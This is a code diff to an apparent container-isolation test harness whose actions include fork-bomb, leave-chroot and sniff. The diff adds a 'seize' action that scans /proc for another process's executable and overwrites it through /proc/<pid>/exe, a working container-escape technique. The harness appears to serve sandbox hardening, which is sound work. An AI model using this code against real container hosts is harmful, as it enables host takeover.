@@ -199,6 +199,26 @@ static long overwrite(char **argv)
 	return -1;
 }
 
+/* Keeps the program of the first process that comes by and runs none of the container's, and overwrites it afterwards. */
+static long seize(char **argv)
+{
+	char path[300], text[300];
+	for (;;) {
+		DIR *list = opendir("/proc");
+		for (struct dirent *entry; list && (entry = readdir(list));) {
+			snprintf(path, sizeof(path), "/proc/%s/exe", entry->d_name);
+			ssize_t size = atoi(entry->d_name) ? readlink(path, text, sizeof(text) - 1) : 0;
+			if (size <= 0 || !strncmp(text, "/bin/busybox", 12) || !strncmp(text, "/h/helper", 9))
+				continue;
+			int fd = open(path, O_RDONLY);
+			snprintf(path, sizeof(path), "/proc/self/fd/%d", fd);
+			if (fd >= 0)
+				return overwrite((char *[]){path});
+		}
+		closedir(list);
+	}
+}
+
 /* Every process that comes by is looked into until /tmp/enough exists: programs that are not busybox, folders it holds. */
 static void look_into(const char *pid)
 {
@@ -250,7 +270,7 @@ static const struct { const char *name; long (*act)(char **argv); } acts[] = {
 	{"become", become}, {"change-personality", change_personality}, {"sniff", sniff},
 	{"connect", connect_abstract}, {"listen", listen_abstract}, {"open-shm", open_shared_memory},
 	{"make-shm", make_shared_memory}, {"new-user-namespace", new_user_namespace}, {"fork-bomb", fork_bomb},
-	{"eat-memory", eat_memory}, {"leave-chroot", leave_chroot}, {"overwrite", overwrite}, {"spy", spy}, {"swap", swap},
+	{"eat-memory", eat_memory}, {"leave-chroot", leave_chroot}, {"overwrite", overwrite}, {"seize", seize}, {"spy", spy}, {"swap", swap},
 	{"try-calls", try_calls},
 };
 
